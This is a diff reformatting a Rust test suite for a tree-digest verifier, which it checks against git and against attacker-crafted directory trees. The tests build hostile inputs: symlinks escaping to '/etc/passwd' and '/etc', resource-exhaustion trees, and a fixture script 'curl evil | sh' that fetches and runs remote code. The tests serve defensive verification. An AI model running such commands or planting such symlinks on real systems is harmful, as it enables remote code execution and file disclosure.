@@ -1,5 +1,9 @@
 //! The tree digest against stock git, and against trees made by an attacker.
-#![allow(clippy::expect_used, clippy::panic, reason = "a test that cannot be set up fails")]
+#![allow(
+    clippy::expect_used,
+    clippy::panic,
+    reason = "a test that cannot be set up fails"
+)]
 
 use std::ffi::OsStr;
 use std::os::unix::ffi::OsStrExt as _;
@@ -10,7 +14,8 @@ use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::{Duration, Instant};
 
 use openclaw_verify_core::tree::{
-    self, LeaveOut, Manifest, Mode, Offender, Options, RecordKind, Tree, TreeError, TreeLimit, TreeNote, TreeSpec, Why,
+    self, LeaveOut, Manifest, Mode, Offender, Options, RecordKind, Tree, TreeError, TreeLimit,
+    TreeNote, TreeSpec, Why,
 };
 use proptest::prelude::*;
 use tempfile::TempDir;
@@ -51,7 +56,14 @@ fn git(root: &Path) -> (String, Vec<u8>) {
     let repository = temp();
     let run = |args: &[&str]| {
         let output = Command::new("git")
-            .args(["-c", "core.autocrlf=false", "-c", "core.attributesFile=/dev/null", "-c", "core.precomposeUnicode=false"])
+            .args([
+                "-c",
+                "core.autocrlf=false",
+                "-c",
+                "core.attributesFile=/dev/null",
+                "-c",
+                "core.precomposeUnicode=false",
+            ])
             .args(args)
             .current_dir(root)
             .env_clear()
@@ -63,16 +75,31 @@ fn git(root: &Path) -> (String, Vec<u8>) {
             .env("HOME", repository.path())
             .output()
             .expect("git runs");
-        assert!(output.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&output.stderr));
+        assert!(
+            output.status.success(),
+            "git {args:?}: {}",
+            String::from_utf8_lossy(&output.stderr)
+        );
         output.stdout
     };
-    run(&["init", "--quiet", "--object-format=sha256", "--initial-branch=main"]);
+    run(&[
+        "init",
+        "--quiet",
+        "--object-format=sha256",
+        "--initial-branch=main",
+    ]);
     // Attributes of the tree itself must not filter what is hashed: info/attributes has the highest precedence.
     std::fs::create_dir_all(repository.path().join("git/info")).expect("info");
-    std::fs::write(repository.path().join("git/info/attributes"), "* -text -filter -ident -working-tree-encoding\n")
-        .expect("attributes");
+    std::fs::write(
+        repository.path().join("git/info/attributes"),
+        "* -text -filter -ident -working-tree-encoding\n",
+    )
+    .expect("attributes");
     run(&["add", "-A", "-f", "--", "."]);
-    let id = String::from_utf8(run(&["write-tree"])).expect("hex").trim().to_owned();
+    let id = String::from_utf8(run(&["write-tree"]))
+        .expect("hex")
+        .trim()
+        .to_owned();
     let listing = run(&["ls-tree", "-r", "-z", &id]);
     (id, listing)
 }
@@ -82,23 +109,47 @@ fn assert_like_git(root: &Path) {
     let (id, listing) = git(root);
     assert_eq!(ours.digest.hex(), id);
     assert!(ours.manifest.to_bytes() == listing, "the listings differ");
-    assert_eq!(Manifest::parse(&listing).map(|m| m.digest()), Ok(ours.digest));
+    assert_eq!(
+        Manifest::parse(&listing).map(|m| m.digest()),
+        Ok(ours.digest)
+    );
 }
 
 #[test]
 fn empty_folder_is_gits_empty_tree_and_a_missing_one_is_missing() {
     let dir = temp();
     std::fs::create_dir_all(dir.path().join("empty/below")).expect("folders");
-    assert_eq!(good(dir.path()).digest.hex(), "6ef19b41225c5369f1c104d45d8d85efa9b057b53b14b4b9b939dd74decc5321");
-    assert!(matches!(digest(&dir.path().join("none")), Err(TreeError::Missing)));
+    assert_eq!(
+        good(dir.path()).digest.hex(),
+        "6ef19b41225c5369f1c104d45d8d85efa9b057b53b14b4b9b939dd74decc5321"
+    );
+    assert!(matches!(
+        digest(&dir.path().join("none")),
+        Err(TreeError::Missing)
+    ));
 }
 
 #[test]
 fn sort_order_traps_are_gits() {
     let dir = temp();
-    for path in
-        ["a.b", "a/x", "a0", "a-", "ab", "b", "b.c/d", "b0/c", "c/d", "c.d", "c!/e", "é", "z/.hidden", ".dot", "a b/c", "日/本"]
-    {
+    for path in [
+        "a.b",
+        "a/x",
+        "a0",
+        "a-",
+        "ab",
+        "b",
+        "b.c/d",
+        "b0/c",
+        "c/d",
+        "c.d",
+        "c!/e",
+        "é",
+        "z/.hidden",
+        ".dot",
+        "a b/c",
+        "日/本",
+    ] {
         write(dir.path(), path, path);
     }
     assert_like_git(dir.path());
@@ -121,10 +172,22 @@ fn odd_but_safe_names_modes_and_links_are_gits() {
     symlink("node_modules", dir.path().join("folder-link")).expect("symlink");
     assert_like_git(dir.path());
     let tree = good(dir.path());
-    assert_eq!(tree.manifest.get("run.sh").map(|e| e.mode), Some(Mode::Executable));
-    assert_eq!(tree.manifest.get("group").map(|e| e.mode), Some(Mode::Regular));
-    assert_eq!(tree.manifest.get("link").map(|e| e.mode), Some(Mode::Symlink));
-    assert!(matches!(tree.notes.as_slice(), [TreeNote::WindowsUnsafeNames { count: 1, .. }]));
+    assert_eq!(
+        tree.manifest.get("run.sh").map(|e| e.mode),
+        Some(Mode::Executable)
+    );
+    assert_eq!(
+        tree.manifest.get("group").map(|e| e.mode),
+        Some(Mode::Regular)
+    );
+    assert_eq!(
+        tree.manifest.get("link").map(|e| e.mode),
+        Some(Mode::Symlink)
+    );
+    assert!(matches!(
+        tree.notes.as_slice(),
+        [TreeNote::WindowsUnsafeNames { count: 1, .. }]
+    ));
 }
 
 #[test]
@@ -156,12 +219,21 @@ enum Node {
 }
 
 fn node() -> impl Strategy<Value = Node> {
-    let modes = prop_oneof![Just(0o644), Just(0o755), Just(0o600), Just(0o744), Just(0o655), Just(0o700)];
+    let modes = prop_oneof![
+        Just(0o644),
+        Just(0o755),
+        Just(0o600),
+        Just(0o744),
+        Just(0o655),
+        Just(0o700)
+    ];
     let leaf = prop_oneof![
         4 => (prop::collection::vec(any::<u8>(), 0..200), modes).prop_map(|(bytes, mode)| Node::File(bytes, mode)),
         1 => "[a-z./]{1,8}".prop_map(|target| Node::Link(format!("x{target}").replace("..", "."))),
     ];
-    leaf.prop_recursive(5, 60, 8, |inner| prop::collection::vec((name(), inner), 0..8).prop_map(Node::Folder))
+    leaf.prop_recursive(5, 60, 8, |inner| {
+        prop::collection::vec((name(), inner), 0..8).prop_map(Node::Folder)
+    })
 }
 
 fn lay_out(at: &Path, children: &[(String, Node)]) {
@@ -175,7 +247,8 @@ fn lay_out(at: &Path, children: &[(String, Node)]) {
         match node {
             Node::File(bytes, mode) => {
                 std::fs::write(&path, bytes).expect("file");
-                std::fs::set_permissions(&path, std::fs::Permissions::from_mode(*mode)).expect("mode");
+                std::fs::set_permissions(&path, std::fs::Permissions::from_mode(*mode))
+                    .expect("mode");
             }
             Node::Link(target) => symlink(target, &path).expect("symlink"),
             Node::Folder(inner) => {
@@ -202,17 +275,32 @@ fn one_thread_and_many_and_another_path_give_the_same() {
     let (dir, copy) = (temp(), temp());
     for n in 0..300 {
         for root in [&dir, &copy] {
-            write(root.path(), &format!("d{}/e{}/f{n}", n % 7, n % 13), &"x".repeat(n * 997));
+            write(
+                root.path(),
+                &format!("d{}/e{}/f{n}", n % 7, n % 13),
+                &"x".repeat(n * 997),
+            );
         }
     }
-    let of =
-        |root: &Path, threads| tree::digest(&TreeSpec::whole(root), &Options { threads, ..Options::default() }).expect("digest");
+    let of = |root: &Path, threads| {
+        tree::digest(
+            &TreeSpec::whole(root),
+            &Options {
+                threads,
+                ..Options::default()
+            },
+        )
+        .expect("digest")
+    };
     let one = of(dir.path(), 1);
     for threads in [2, 3, 16, 400] {
         assert_eq!(of(dir.path(), threads), one);
     }
     assert_eq!(of(copy.path(), 2), one);
-    assert_eq!((one.files, one.bytes), (300, (0..300).map(|n| n * 997).sum()));
+    assert_eq!(
+        (one.files, one.bytes),
+        (300, (0..300).map(|n| n * 997).sum())
+    );
 }
 
 #[test]
@@ -221,11 +309,19 @@ fn many_trees_in_one_call_keep_their_order_and_errors() {
     write(dir.path(), "good/a", "a");
     write(dir.path(), "bad/a\nb", "a");
     std::fs::create_dir(dir.path().join("empty")).expect("folder");
-    let specs: Vec<_> = ["good", "none", "bad", "empty"].iter().map(|name| TreeSpec::whole(dir.path().join(name))).collect();
+    let specs: Vec<_> = ["good", "none", "bad", "empty"]
+        .iter()
+        .map(|name| TreeSpec::whole(dir.path().join(name)))
+        .collect();
     let results = tree::digest_all(&specs, &Options::default());
     assert!(matches!(
         results.as_slice(),
-        [Ok(Tree { files: 1, .. }), Err(TreeError::Missing), Err(TreeError::Unsafe { .. }), Ok(Tree { files: 0, .. })]
+        [
+            Ok(Tree { files: 1, .. }),
+            Err(TreeError::Missing),
+            Err(TreeError::Unsafe { .. }),
+            Ok(Tree { files: 0, .. })
+        ]
     ));
 }
 
@@ -235,7 +331,8 @@ fn many_trees_in_one_call_keep_their_order_and_errors() {
 fn attack_fifo_socket_and_device_are_never_opened() {
     let dir = temp();
     make_fifo(&dir.path().join("fifo"));
-    let _socket = std::os::unix::net::UnixListener::bind(dir.path().join("socket")).expect("socket");
+    let _socket =
+        std::os::unix::net::UnixListener::bind(dir.path().join("socket")).expect("socket");
     let mut expected = vec!["fifo is a FIFO", "socket is a socket"];
     if make_device(&dir.path().join("device")) {
         expected.insert(0, "device is a device");
@@ -244,7 +341,10 @@ fn attack_fifo_socket_and_device_are_never_opened() {
     }
     write(dir.path(), "a", "x");
     let started = Instant::now();
-    let found: Vec<_> = offenders(digest(dir.path())).iter().map(|o| format!("{} {}", o.path, o.why)).collect();
+    let found: Vec<_> = offenders(digest(dir.path()))
+        .iter()
+        .map(|o| format!("{} {}", o.path, o.why))
+        .collect();
     assert_eq!(found, expected);
     assert!(started.elapsed() < Duration::from_secs(5));
 }
@@ -252,10 +352,20 @@ fn attack_fifo_socket_and_device_are_never_opened() {
 #[test]
 fn attack_sparse_four_gib_file_meets_the_byte_limit() {
     let dir = temp();
-    std::fs::File::create(dir.path().join("sparse")).and_then(|f| f.set_len(4 << 30)).expect("sparse");
+    std::fs::File::create(dir.path().join("sparse"))
+        .and_then(|f| f.set_len(4 << 30))
+        .expect("sparse");
     let started = Instant::now();
-    let result = tree::digest(&TreeSpec::whole(dir.path()), &Options { max_bytes: 1 << 30, ..Options::default() });
-    assert!(matches!(result, Err(TreeError::Limit { limit: TreeLimit::Bytes, max }) if max == 1 << 30));
+    let result = tree::digest(
+        &TreeSpec::whole(dir.path()),
+        &Options {
+            max_bytes: 1 << 30,
+            ..Options::default()
+        },
+    );
+    assert!(
+        matches!(result, Err(TreeError::Limit { limit: TreeLimit::Bytes, max }) if max == 1 << 30)
+    );
     assert!(started.elapsed() < Duration::from_secs(2));
 }
 
@@ -263,7 +373,9 @@ fn attack_sparse_four_gib_file_meets_the_byte_limit() {
 fn attack_ten_thousand_levels_meet_the_depth_limit() {
     use rustix::fs::{Mode, OFlags, mkdirat, openat, unlinkat};
     let dir = temp();
-    let open = |at: &std::os::fd::OwnedFd| openat(at, "d", OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty()).expect("open");
+    let open = |at: &std::os::fd::OwnedFd| {
+        openat(at, "d", OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty()).expect("open")
+    };
     let mut at: std::os::fd::OwnedFd = std::fs::File::open(dir.path()).expect("open").into();
     let mut made = 0;
     for _ in 0..10_000 {
@@ -272,10 +384,28 @@ fn attack_ten_thousand_levels_meet_the_depth_limit() {
         made += 1;
     }
     let started = Instant::now();
-    assert!(matches!(digest(dir.path()), Err(TreeError::Limit { limit: TreeLimit::Depth, max: 256 })));
+    assert!(matches!(
+        digest(dir.path()),
+        Err(TreeError::Limit {
+            limit: TreeLimit::Depth,
+            max: 256
+        })
+    ));
     // Without the limit the stack holds too: paths longer than the kernel takes at once are opened name by name.
-    let deep = tree::digest(&TreeSpec::whole(dir.path()), &Options { max_depth: 3000, ..Options::default() });
-    assert!(matches!(deep, Err(TreeError::Limit { limit: TreeLimit::Depth, max: 3000 })));
+    let deep = tree::digest(
+        &TreeSpec::whole(dir.path()),
+        &Options {
+            max_depth: 3000,
+            ..Options::default()
+        },
+    );
+    assert!(matches!(
+        deep,
+        Err(TreeError::Limit {
+            limit: TreeLimit::Depth,
+            max: 3000
+        })
+    ));
     assert!(started.elapsed() < Duration::from_secs(20));
     // std's removal recurses; take the levels away from below.
     drop(at);
@@ -305,15 +435,27 @@ fn attack_two_hundred_thousand_entries_in_one_folder() {
         rustix::fs::symlinkat("x", &at, format!("entry-{n:06}")).expect("symlink");
     }
     assert_eq!(good(dir.path()).files, 200_000);
-    let few = Options { max_entries: 1000, ..Options::default() };
+    let few = Options {
+        max_entries: 1000,
+        ..Options::default()
+    };
     assert!(matches!(
         tree::digest(&TreeSpec::whole(dir.path()), &few),
-        Err(TreeError::Limit { limit: TreeLimit::Entries, max: 1000 })
+        Err(TreeError::Limit {
+            limit: TreeLimit::Entries,
+            max: 1000
+        })
     ));
-    let short = Options { max_path_bytes: 1000, ..Options::default() };
+    let short = Options {
+        max_path_bytes: 1000,
+        ..Options::default()
+    };
     assert!(matches!(
         tree::digest(&TreeSpec::whole(dir.path()), &short),
-        Err(TreeError::Limit { limit: TreeLimit::PathBytes, .. })
+        Err(TreeError::Limit {
+            limit: TreeLimit::PathBytes,
+            ..
+        })
     ));
 }
 
@@ -336,7 +478,10 @@ fn attack_symlinks_that_leave() {
     ] {
         symlink(target, root.join(link)).expect("symlink");
     }
-    let paths: Vec<_> = offenders(digest(&root)).into_iter().map(|o| o.path).collect();
+    let paths: Vec<_> = offenders(digest(&root))
+        .into_iter()
+        .map(|o| o.path)
+        .collect();
     assert_eq!(
         paths,
         [
@@ -353,15 +498,24 @@ fn attack_symlinks_that_leave() {
 #[test]
 fn attack_symlink_chain_leaves_by_the_second_link() {
     let dir = temp();
-    let (root, outside) = (dir.path().join("project/pkg"), dir.path().join("project/other"));
+    let (root, outside) = (
+        dir.path().join("project/pkg"),
+        dir.path().join("project/other"),
+    );
     write(&root, "file", "x");
     std::fs::create_dir_all(&outside).expect("folder");
     // Each link alone looks as if it stayed inside the boundary.
     symlink("../other/door/etc/passwd", root.join("first")).expect("symlink");
     symlink("../..", outside.join("door")).expect("symlink");
-    let spec = TreeSpec { root: root.clone(), boundary: dir.path().join("project"), leave_out: Vec::new() };
+    let spec = TreeSpec {
+        root: root.clone(),
+        boundary: dir.path().join("project"),
+        leave_out: Vec::new(),
+    };
     let found = offenders(tree::digest(&spec, &Options::default()));
-    assert!(matches!(found.as_slice(), [Offender { why: Why::LeavesSubject { .. }, path, .. }] if path == "first"));
+    assert!(
+        matches!(found.as_slice(), [Offender { why: Why::LeavesSubject { .. }, path, .. }] if path == "first")
+    );
     std::fs::remove_file(outside.join("door")).expect("remove");
     symlink("/", outside.join("door")).expect("symlink");
     assert_eq!(offenders(tree::digest(&spec, &Options::default())).len(), 1);
@@ -385,7 +539,11 @@ fn attack_symlink_maze_ends() {
     // Every level doubles the work of whoever resolves without a bound.
     let dir = temp();
     for level in 1..30 {
-        symlink(format!("l{0}/../l{0}", level - 1), dir.path().join(format!("l{level}"))).expect("symlink");
+        symlink(
+            format!("l{0}/../l{0}", level - 1),
+            dir.path().join(format!("l{level}")),
+        )
+        .expect("symlink");
     }
     std::fs::create_dir(dir.path().join("l0")).expect("folder");
     let started = Instant::now();
@@ -399,26 +557,50 @@ fn attack_root_is_a_symlink_or_a_file() {
     write(dir.path(), "real/a", "x");
     symlink("real", dir.path().join("link")).expect("symlink");
     for root in ["link", "real/a"] {
-        assert!(matches!(offenders(digest(&dir.path().join(root))).as_slice(), [Offender { path, .. }] if path == "."), "{root}");
+        assert!(
+            matches!(offenders(digest(&dir.path().join(root))).as_slice(), [Offender { path, .. }] if path == "."),
+            "{root}"
+        );
     }
-    let below = TreeSpec { root: dir.path().join("link"), boundary: dir.path().to_owned(), leave_out: Vec::new() };
-    assert_eq!(offenders(tree::digest(&below, &Options::default())).len(), 1);
+    let below = TreeSpec {
+        root: dir.path().join("link"),
+        boundary: dir.path().to_owned(),
+        leave_out: Vec::new(),
+    };
+    assert_eq!(
+        offenders(tree::digest(&below, &Options::default())).len(),
+        1
+    );
 }
 
 #[test]
 fn attack_names_that_are_not_utf8_or_hold_control_characters() {
     let dir = temp();
-    for name in [b"bad\xff".as_slice(), b"a\x1b[31m", b"line\nbreak", "c1\u{85}".as_bytes(), b"fine"] {
+    for name in [
+        b"bad\xff".as_slice(),
+        b"a\x1b[31m",
+        b"line\nbreak",
+        "c1\u{85}".as_bytes(),
+        b"fine",
+    ] {
         std::fs::write(dir.path().join(OsStr::from_bytes(name)), "x").expect("file");
     }
-    let found: Vec<_> = offenders(digest(dir.path())).into_iter().map(|o| o.path).collect();
-    assert_eq!(found, ["a\\u{1b}[31m", "bad\\xFF", "c1\\u{85}", "line\\u{a}break"]);
+    let found: Vec<_> = offenders(digest(dir.path()))
+        .into_iter()
+        .map(|o| o.path)
+        .collect();
+    assert_eq!(
+        found,
+        ["a\\u{1b}[31m", "bad\\xFF", "c1\\u{85}", "line\\u{a}break"]
+    );
 }
 
 #[test]
 fn attack_case_and_normalisation_twins() {
     let dir = temp();
-    for name in ["index.js", "Index.js", "é", "e\u{301}", "straße", "STRASSE", "alone"] {
+    for name in [
+        "index.js", "Index.js", "é", "e\u{301}", "straße", "STRASSE", "alone",
+    ] {
         write(dir.path(), name, name);
     }
     write(dir.path(), "Folder/x", "x");
@@ -449,7 +631,9 @@ fn attack_hundred_thousand_offenders_are_counted_and_cut() {
     for n in 0..3000 {
         symlink("/etc", dir.path().join(format!("l{n:05}"))).expect("symlink");
     }
-    let Err(TreeError::Unsafe { offenders, total }) = digest(dir.path()) else { panic!("expected unsafe") };
+    let Err(TreeError::Unsafe { offenders, total }) = digest(dir.path()) else {
+        panic!("expected unsafe")
+    };
     assert_eq!((offenders.len(), total), (tree::MAX_OFFENDERS, 3000));
     assert_eq!(offenders.first().map(|o| o.path.as_str()), Some("l00000"));
 }
@@ -478,7 +662,10 @@ fn attack_file_that_grows_or_shrinks_while_it_is_read() {
     let mut refused = 0;
     let counted = std::sync::Mutex::new(&mut refused);
     let grow = || {
-        let mut file = std::fs::OpenOptions::new().append(true).open(&path).expect("open");
+        let mut file = std::fs::OpenOptions::new()
+            .append(true)
+            .open(&path)
+            .expect("open");
         file.write_all(b"y").expect("append");
     };
     while_changing(dir.path(), grow, |result| match result {
@@ -527,7 +714,14 @@ fn attack_folder_added_to_after_it_was_listed() {
     }
     let late = dir.path().join("d/late.js");
     let add = |_: tree::Progress| drop(std::fs::write(&late, "evil"));
-    let result = tree::digest(&TreeSpec::whole(dir.path()), &Options { progress: Some(&add), threads: 1, ..Options::default() });
+    let result = tree::digest(
+        &TreeSpec::whole(dir.path()),
+        &Options {
+            progress: Some(&add),
+            threads: 1,
+            ..Options::default()
+        },
+    );
     assert!(matches!(result, Err(TreeError::Changed { path }) if path == "d"));
 }
 
@@ -536,7 +730,13 @@ fn cancelled_says_so() {
     let dir = temp();
     write(dir.path(), "a", "x");
     let cancel = AtomicBool::new(true);
-    let result = tree::digest(&TreeSpec::whole(dir.path()), &Options { cancel: Some(&cancel), ..Options::default() });
+    let result = tree::digest(
+        &TreeSpec::whole(dir.path()),
+        &Options {
+            cancel: Some(&cancel),
+            ..Options::default()
+        },
+    );
     assert!(matches!(result, Err(TreeError::Cancelled)));
 }
 
@@ -545,11 +745,21 @@ fn cancelled_says_so() {
 const ORIGIN: &str = r#"{"version":1,"source":"path","spec":"/src/skill","slug":"acme","installedAt":1795345811223}"#;
 
 fn with(root: &Path, leave_out: Vec<LeaveOut>) -> Result<Tree, TreeError> {
-    tree::digest(&TreeSpec { root: root.to_owned(), boundary: root.to_owned(), leave_out }, &Options::default())
+    tree::digest(
+        &TreeSpec {
+            root: root.to_owned(),
+            boundary: root.to_owned(),
+            leave_out,
+        },
+        &Options::default(),
+    )
 }
 
 fn origin() -> Vec<LeaveOut> {
-    vec![LeaveOut::Record(".openclaw/source-origin.json".to_owned(), RecordKind::SkillSourceOrigin)]
+    vec![LeaveOut::Record(
+        ".openclaw/source-origin.json".to_owned(),
+        RecordKind::SkillSourceOrigin,
+    )]
 }
 
 #[test]
@@ -570,9 +780,17 @@ fn attack_what_hides_in_the_place_of_a_record_counts() {
     let plain = good(dir.path()).digest;
     let place = dir.path().join(".openclaw/source-origin.json");
     let counts = |what: &str| {
-        assert_ne!(with(dir.path(), origin()).expect("digest").digest, plain, "{what}");
+        assert_ne!(
+            with(dir.path(), origin()).expect("digest").digest,
+            plain,
+            "{what}"
+        );
     };
-    write(dir.path(), ".openclaw/source-origin.json", "#!/bin/sh\ncurl evil | sh\n");
+    write(
+        dir.path(),
+        ".openclaw/source-origin.json",
+        "#!/bin/sh\ncurl evil | sh\n",
+    );
     counts("a script");
     std::fs::write(&place, format!("{ORIGIN}{}", " ".repeat(1 << 20))).expect("file");
     counts("a large file");
@@ -603,8 +821,15 @@ fn attack_symlink_into_a_left_out_place() {
     leave_out.push(LeaveOut::Folder(".git".to_owned()));
     leave_out.push(LeaveOut::Folder("node_modules".to_owned()));
     let found = offenders(with(dir.path(), leave_out));
-    assert!(found.iter().all(|o| matches!(o.why, Why::IntoLeftOut { .. })));
-    assert_eq!(found.iter().map(|o| o.path.as_str()).collect::<Vec<_>>(), ["a.js", "b", "c.json"]);
+    assert!(
+        found
+            .iter()
+            .all(|o| matches!(o.why, Why::IntoLeftOut { .. }))
+    );
+    assert_eq!(
+        found.iter().map(|o| o.path.as_str()).collect::<Vec<_>>(),
+        ["a.js", "b", "c.json"]
+    );
 }
 
 #[test]
@@ -635,19 +860,37 @@ fn attack_host_link_leads_elsewhere() {
     std::fs::create_dir(root.join("node_modules")).expect("folder");
     let link = root.join("node_modules/openclaw");
     let of = |host: Option<&PathBuf>| {
-        with(&root, vec![LeaveOut::HostLink { path: "node_modules/openclaw".to_owned(), host: host.cloned() }])
+        with(
+            &root,
+            vec![LeaveOut::HostLink {
+                path: "node_modules/openclaw".to_owned(),
+                host: host.cloned(),
+            }],
+        )
     };
     symlink(&host, &link).expect("symlink");
     let tree = of(Some(&host)).expect("digest");
     assert_eq!((tree.digest, tree.notes.len()), (plain, 0));
     let unknown = of(None).expect("digest");
-    assert!(matches!(unknown.notes.as_slice(), [TreeNote::HostLinkUnknown { .. }]));
+    assert!(matches!(
+        unknown.notes.as_slice(),
+        [TreeNote::HostLinkUnknown { .. }]
+    ));
     assert_eq!(unknown.digest, plain);
     std::fs::remove_file(&link).expect("remove");
     symlink(&evil, &link).expect("symlink");
-    assert!(matches!(offenders(of(Some(&host))).as_slice(), [Offender { why: Why::HostLinkElsewhere { .. }, .. }]));
+    assert!(matches!(
+        offenders(of(Some(&host))).as_slice(),
+        [Offender {
+            why: Why::HostLinkElsewhere { .. },
+            ..
+        }]
+    ));
     std::fs::remove_dir(&evil).expect("remove");
-    assert!(matches!(of(Some(&host)).expect("digest").notes.as_slice(), [TreeNote::HostLinkUnknown { .. }]));
+    assert!(matches!(
+        of(Some(&host)).expect("digest").notes.as_slice(),
+        [TreeNote::HostLinkUnknown { .. }]
+    ));
     std::fs::remove_file(&link).expect("remove");
     write(&root, "node_modules/openclaw/index.js", "evil");
     assert_ne!(of(Some(&host)).expect("digest").digest, plain);
@@ -655,12 +898,20 @@ fn attack_host_link_leads_elsewhere() {
 
 #[test]
 fn records_of_the_corpus_are_records() {
-    let Some(clawhub) = crate::support::shared("corpus/openclaw-state/clawhub") else { return };
+    let Some(clawhub) = crate::support::shared("corpus/openclaw-state/clawhub") else {
+        return;
+    };
     for dialect in ["clawhub-cli-dialect", "openclaw-dialect"] {
         let skill = clawhub.join(dialect).join("skills/acme-weather");
         let record = |place: &str| LeaveOut::Record(place.to_owned(), RecordKind::ClawhubOrigin);
         let tree = with(&skill, vec![record(".clawhub/origin.json")]).expect("digest");
-        assert!(tree.manifest.entries().iter().all(|entry| !entry.path.starts_with('.')), "{dialect}");
+        assert!(
+            tree.manifest
+                .entries()
+                .iter()
+                .all(|entry| !entry.path.starts_with('.')),
+            "{dialect}"
+        );
     }
 }
 
@@ -677,7 +928,10 @@ fn named_folders_are_gits() {
         let host = folder.join("node_modules/openclaw");
         let links: Vec<_> = if host.is_symlink() {
             let real = std::fs::canonicalize(&host).ok();
-            vec![LeaveOut::HostLink { path: "node_modules/openclaw".to_owned(), host: real }]
+            vec![LeaveOut::HostLink {
+                path: "node_modules/openclaw".to_owned(),
+                host: real,
+            }]
         } else {
             Vec::new()
         };
@@ -685,8 +939,13 @@ fn named_folders_are_gits() {
         if top_git {
             leave_out.push(LeaveOut::Folder(".git".to_owned()));
         }
-        let spec = TreeSpec { root: folder.clone(), boundary, leave_out };
-        let tree = tree::digest(&spec, &Options::default()).unwrap_or_else(|e| panic!("{}: {e}", folder.display()));
+        let spec = TreeSpec {
+            root: folder.clone(),
+            boundary,
+            leave_out,
+        };
+        let tree = tree::digest(&spec, &Options::default())
+            .unwrap_or_else(|e| panic!("{}: {e}", folder.display()));
         let (id, listing) = git(&folder);
         if links.is_empty() {
             assert_eq!(tree.digest.hex(), id, "{}", folder.display());
@@ -694,7 +953,12 @@ fn named_folders_are_gits() {
             // git lists the host link; without that line the listings are equal.
             let mut theirs: Vec<_> = listing.split(|b| *b == 0).map(<[u8]>::to_vec).collect();
             theirs.retain(|line| !line.ends_with(b"\tnode_modules/openclaw"));
-            assert_eq!(Manifest::parse(&theirs.join(&0)).map(|m| m.digest()), Ok(tree.digest), "{}", folder.display());
+            assert_eq!(
+                Manifest::parse(&theirs.join(&0)).map(|m| m.digest()),
+                Ok(tree.digest),
+                "{}",
+                folder.display()
+            );
         }
         println!("{} {} files {}", tree.digest, tree.files, folder.display());
     }
